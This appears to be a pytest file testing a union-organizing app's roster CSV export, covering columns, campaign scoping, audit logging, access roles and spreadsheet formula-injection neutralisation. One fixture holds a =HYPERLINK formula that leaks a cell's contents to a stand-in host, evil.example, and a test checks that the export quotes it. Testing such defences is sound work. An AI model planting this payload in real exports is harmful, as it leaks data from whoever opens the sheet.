"""Exporting the chart: `rankfile roster export` and the download for the committee.

Every test runs on SQLite and on PostgreSQL.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from fastapi.testclient import TestClient
from sqlalchemy import Engine, func, select
from sqlmodel import Session, col
from typer.testing import CliRunner

from app.assessments.models import Assessment
from app.audit.models import AuditEvent
from app.campaigns.models import Campaign, Department, Role, Shift
from app.cli import app as cli
from app.people.models import Coworker
from tests.factories import Factory, log_in

runner = CliRunner()

# The columns, in the order the issue gives them.
HEADER = [
    "employee_id",
    "name",
    "department",
    "shift",
    "job_title",
    "level",
    "committee",
    "organic_leader",
    "organizer",
    "phone",
    "email",
    "last_assessed_at",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def parse_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def audit_events(engine: Engine, action: str) -> list[AuditEvent]:
    with Session(engine) as session:
        return list(
            session.scalars(
                select(AuditEvent)
                .where(col(AuditEvent.action) == action)
                .order_by(col(AuditEvent.id))
            )
        )


def count(engine: Engine, model: type) -> int:
    with Session(engine) as session:
        return session.scalar(select(func.count()).select_from(model)) or 0


@pytest.fixture
def mercy(factory: Factory) -> Campaign:
    return factory.campaign("Mercy Hospital", slug="mercy")


@pytest.fixture
def rankfile(database_url: str, engine: Engine, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    """Run a `rankfile` command; an unexpected exception is raised, not hidden in exit code 1."""
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("RANKFILE_ENV", "test")

    def run(*args: str):  # type: ignore[no-untyped-def]
        result = runner.invoke(cli, list(args))
        if result.exception is not None and not isinstance(result.exception, SystemExit):
            raise result.exception
        return result

    return run


@pytest.fixture
def export(rankfile, tmp_path: Path):  # type: ignore[no-untyped-def]
    """Export a campaign to a new file and return its bytes."""
    made = []

    def run(slug: str = "mercy") -> bytes:
        out = tmp_path / f"export-{len(made)}.csv"
        made.append(out)
        result = rankfile("roster", "export", slug, "--out", str(out))
        assert result.exit_code == 0, result.stderr
        return out.read_bytes()

    return run


# -- content -----------------------------------------------------------------------------------


def test_the_columns_their_order_and_the_values(  # type: ignore[no-untyped-def]
    rankfile, engine: Engine, factory: Factory, mercy: Campaign, tmp_path: Path
) -> None:
    organizer = factory.member(mercy, Role.organizer, email="org@example.org")
    factory.coworkers(
        mercy,
        {"name": "Rivera, Ana", "department": "ICU", "shift": "Days", "employee_id": "E1",
         "job_title": "RN", "current_level": 2, "is_committee": True,
         "organizer_id": organizer.user.id, "phone": "555 0101", "email": "ana@home.example",
         "last_assessed_at": dt.datetime(2024, 3, 1, 12, 30, 5, tzinfo=dt.UTC),
         "notes": "afraid of the night manager"},
        {"name": "Okafor, Chidi", "department": "Emergency", "is_organic_leader": True},
    )  # fmt: skip
    out = tmp_path / "roster.csv"
    result = rankfile("roster", "export", "mercy", "--out", str(out))
    assert result.exit_code == 0, result.stderr
    assert result.stdout == ""
    assert result.stderr.strip() == f"Exported 2 coworkers to {out}."
    data = out.read_bytes()
    assert data.startswith(",".join(HEADER).encode() + b"\r\n")
    assert parse_csv(data) == [
        HEADER,
        ["E1", "Rivera, Ana", "ICU", "Days", "RN", "2", "yes", "no", "org@example.org",
         "555 0101", "ana@home.example", "2024-03-01T12:30:05Z"],
        ["", "Okafor, Chidi", "Emergency", "Unassigned", "", "", "no", "yes", "", "", "", ""],
    ]  # fmt: skip
    assert b"afraid" not in data  # notes never leave the app in a roster
    # Without --out the same CSV goes to standard output, byte for byte.
    to_stdout = rankfile("roster", "export", "mercy")
    assert to_stdout.exit_code == 0
    assert to_stdout.stdout_bytes == data


def test_departed_coworkers_are_not_exported(  # type: ignore[no-untyped-def]
    export, engine: Engine, factory: Factory, mercy: Campaign
) -> None:
    factory.coworkers(
        mercy,
        {"name": "Here, Still", "department": "ICU"},
        {"name": "Gone, Long", "department": "ICU", "active": False,
         "departed_on": dt.date(2024, 1, 31)},
    )  # fmt: skip
    rows = parse_csv(export())
    assert [row[1] for row in rows[1:]] == ["Here, Still"]
    (event,) = audit_events(engine, "export")
    assert event.details["rows"] == 1


def test_another_campaigns_coworkers_are_not_exported(  # type: ignore[no-untyped-def]
    export, factory: Factory, mercy: Campaign
) -> None:
    acme = factory.campaign("Acme", slug="acme")
    factory.coworkers(mercy, {"name": "Ours", "department": "ICU"})
    factory.coworkers(acme, {"name": "Theirs", "department": "Dock"})
    assert [row[1] for row in parse_csv(export())[1:]] == ["Ours"]
    assert [row[1] for row in parse_csv(export("acme"))[1:]] == ["Theirs"]


def test_an_empty_campaign_exports_the_header(  # type: ignore[no-untyped-def]
    export, mercy: Campaign
) -> None:
    assert parse_csv(export()) == [HEADER]


def test_an_unknown_campaign_is_one_clear_error(rankfile, engine: Engine) -> None:  # type: ignore[no-untyped-def]
    result = rankfile("roster", "export", "nope")
    assert result.exit_code == 1
    assert result.stderr.strip().splitlines() == ["rankfile: error: no campaign with slug 'nope'"]
    assert count(engine, AuditEvent) == 0


# -- neutralisation ----------------------------------------------------------------------------


def test_cells_a_spreadsheet_would_run_are_neutralised(  # type: ignore[no-untyped-def]
    export, factory: Factory, mercy: Campaign
) -> None:
    factory.coworkers(
        mercy,
        {"name": HYPERLINK, "department": "+Float Pool", "shift": "@Nights", "employee_id": "=1+1",
         "job_title": "-dash", "phone": "+1 555 0100", "email": "@at"},
        {"name": "'=already quoted", "department": "ICU", "job_title": "\tTabbed",
         "phone": "\rReturn", "email": "'plain"},
        {"name": "Rivera, Ana", "department": "ICU", "job_title": "RN-2", "phone": "555-0100"},
    )  # fmt: skip
    rows = parse_csv(export())
    by_name = {row[1]: dict(zip(HEADER, row, strict=True)) for row in rows[1:]}
    hostile = by_name["'" + HYPERLINK]
    assert hostile["employee_id"] == "'=1+1"
    assert hostile["department"] == "'+Float Pool"
    assert hostile["shift"] == "'@Nights"
    assert hostile["job_title"] == "'-dash"
    assert hostile["phone"] == "'+1 555 0100"
    assert hostile["email"] == "'@at"
    quoted = by_name["''=already quoted"]
    assert quoted["job_title"] == "'\tTabbed"
    assert quoted["phone"] == "'\rReturn"
    assert quoted["email"] == "'plain"  # a quote before nothing dangerous is left alone
    plain = by_name["Rivera, Ana"]
    assert (plain["job_title"], plain["phone"]) == ("RN-2", "555-0100")
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), row


# -- the round trip ----------------------------------------------------------------------------


@pytest.fixture
def charted(factory: Factory, mercy: Campaign) -> list[Coworker]:
    """A chart with every kind of value the export writes, hostile ones included."""
    organizer = factory.member(mercy, Role.organizer, email="org@example.org")
    return factory.coworkers(
        mercy,
        {"name": HYPERLINK, "department": "ICU", "shift": "Days", "job_title": "-dash",
         "phone": "+1 555 0100", "email": "@at", "current_level": 1, "is_committee": True,
         "organizer_id": organizer.user.id,
         "last_assessed_at": dt.datetime(2024, 5, 6, 7, 8, 9, tzinfo=dt.UTC)},
        {"name": "SMITH, JOHN", "department": "DEPT OF WATER", "job_title": "LABORER"},
        {"name": "SMITH, JOHN", "department": "DEPT OF WATER", "job_title": "LABORER",
         "phone": "=2+3", "current_level": 4, "is_organic_leader": True,
         "last_assessed_at": dt.datetime(2024, 2, 1, 0, 0, tzinfo=dt.UTC)},
        {"name": "Rivera, Ana", "department": "+Float", "shift": "@Nights", "employee_id": "E-7",
         "job_title": "RN, Charge", "phone": "555-0100", "email": "ana@home.example",
         "current_level": 3, "last_assessed_at": dt.datetime(2024, 4, 1, tzinfo=dt.UTC)},
        {"name": "'=already quoted", "department": "ICU", "employee_id": "-42",
         "job_title": 'Says "hi"', "email": "'plain"},
        {"name": "Gone, Long", "department": "ICU", "active": False},
    )  # fmt: skip


def test_export_import_export_gives_the_same_file(  # type: ignore[no-untyped-def]
    rankfile, export, engine: Engine, tmp_path: Path, charted: list[Coworker]
) -> None:
    first = export()
    assert len(parse_csv(first)) == 1 + 5
    path = tmp_path / "exported.csv"
    path.write_bytes(first)
    result = rankfile("roster", "import", "mercy", str(path))
    assert result.exit_code == 0, result.stderr
    assert "Created 0, updated 0, unchanged 5." in result.stdout
    assert "unknown" not in result.stdout.lower()
    assert count(engine, Assessment) == 0
    assert export() == first
    with Session(engine) as session:
        hostile = session.get(Coworker, charted[0].id)
        assert hostile is not None
        assert (hostile.name, hostile.phone, hostile.job_title, hostile.email) == (
            HYPERLINK, "+1 555 0100", "-dash", "@at",
        )  # fmt: skip
        quoted = session.get(Coworker, charted[4].id)
        assert quoted is not None
        assert (quoted.name, quoted.employee_id, quoted.email) == (
            "'=already quoted",
            "-42",
            "'plain",
        )
        assert session.scalar(select(func.count()).where(col(Coworker.active))) == 5


def test_an_export_imported_into_a_new_campaign_recreates_the_chart(  # type: ignore[no-untyped-def]
    rankfile, export, engine: Engine, factory: Factory, tmp_path: Path, charted: list[Coworker]
) -> None:
    acme = factory.campaign("Acme", slug="acme")
    factory.member(acme, Role.organizer, email="org@example.org")
    first = export()
    path = tmp_path / "exported.csv"
    path.write_bytes(first)
    result = rankfile("roster", "import", "acme", str(path))
    assert result.exit_code == 0, result.stderr
    assert "Created 5, updated 0, unchanged 0." in result.stdout
    copied = export("acme")
    # Everything but the assessment time, which is the time of the import.
    assert [row[:-1] for row in parse_csv(copied)] == [row[:-1] for row in parse_csv(first)]
    with Session(engine) as session:
        imported = session.scalars(
            select(Assessment).where(col(Assessment.campaign_id) == acme.id)
        ).all()
        assert sorted(event.level for event in imported) == [1, 3, 4]
        assert {(event.note, event.source) for event in imported} == {
            ("Imported from roster", "import")
        }
        phones = set(
            session.scalars(select(Coworker.phone).where(col(Coworker.campaign_id) == acme.id))
        )
        assert "+1 555 0100" in phones
        departments = set(
            session.scalars(select(Department.name).where(col(Department.campaign_id) == acme.id))
        )
        assert departments == {"ICU", "DEPT OF WATER", "+Float"}
        shifts = set(session.scalars(select(Shift.name).where(col(Shift.campaign_id) == acme.id)))
        assert shifts == {"Days", "Unassigned", "@Nights"}


# -- audit -------------------------------------------------------------------------------------


def test_every_export_is_audited_with_its_row_count(  # type: ignore[no-untyped-def]
    rankfile, export, engine: Engine, charted: list[Coworker], mercy: Campaign
) -> None:
    export()
    assert rankfile("roster", "export", "mercy").exit_code == 0
    events = audit_events(engine, "export")
    assert len(events) == 2
    for event in events:
        assert event.campaign_id == mercy.id
        assert event.actor.startswith("cli:")
        assert event.details["rows"] == 5  # the departed one is not exported
    # The log says what was done, never to whom.
    assert "SMITH" not in str(events[0].details)


# -- the web download --------------------------------------------------------------------------


@pytest.mark.parametrize("role", [Role.committee, Role.admin])
def test_the_committee_and_admins_download_the_csv(  # type: ignore[no-untyped-def]
    client: TestClient,
    export,
    engine: Engine,
    factory: Factory,
    mercy: Campaign,
    charted: list[Coworker],
    role: Role,
) -> None:
    member = factory.member(mercy, role)
    log_in(client, member)
    page = client.get("/campaigns/mercy/roster")
    assert page.status_code == 200
    form = BeautifulSoup(page.text, "html.parser").select_one(
        'form[action="/campaigns/mercy/roster/export"]'
    )
    assert form is not None
    assert form["method"] == "post"

    response = client.post("/campaigns/mercy/roster/export")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    disposition = response.headers["content-disposition"]
    assert re.fullmatch(r'attachment; filename="mercy-roster-\d{4}-\d{2}-\d{2}\.csv"', disposition)
    assert response.headers["cache-control"] == "no-store"
    rows = parse_csv(response.content)
    assert rows[0] == HEADER
    assert len(rows) == 1 + 5
    assert "'+1 555 0100" in [row[9] for row in rows]
    (event,) = audit_events(engine, "export")
    assert (event.actor, event.campaign_id, event.details["rows"]) == (member.email, mercy.id, 5)
    # The same file as the command writes.
    assert response.content == export()


def test_an_organizer_may_not_export(  # type: ignore[no-untyped-def]
    client: TestClient, engine: Engine, factory: Factory, mercy: Campaign, charted: list[Coworker]
) -> None:
    log_in(client, factory.member(mercy, Role.organizer, email="someone@example.org"))
    response = client.post("/campaigns/mercy/roster/export")
    assert response.status_code == 403
    assert "SMITH" not in response.text
    assert audit_events(engine, "export") == []


def test_another_campaigns_export_is_not_found(  # type: ignore[no-untyped-def]
    client: TestClient, engine: Engine, factory: Factory, mercy: Campaign, charted: list[Coworker]
) -> None:
    acme = factory.campaign("Acme", slug="acme")
    log_in(client, factory.member(acme, Role.admin))
    response = client.post("/campaigns/mercy/roster/export")
    assert response.status_code == 404
    assert "SMITH" not in response.text
    assert audit_events(engine, "export") == []


def test_an_export_is_refused_from_another_site(  # type: ignore[no-untyped-def]
    client: TestClient, engine: Engine, factory: Factory, mercy: Campaign, charted: list[Coworker]
) -> None:
    log_in(client, factory.member(mercy, Role.admin))
    response = client.post(
        "/campaigns/mercy/roster/export", headers={"Sec-Fetch-Site": "cross-site"}
    )
    assert response.status_code == 403
    assert "SMITH" not in response.text
    assert audit_events(engine, "export") == []
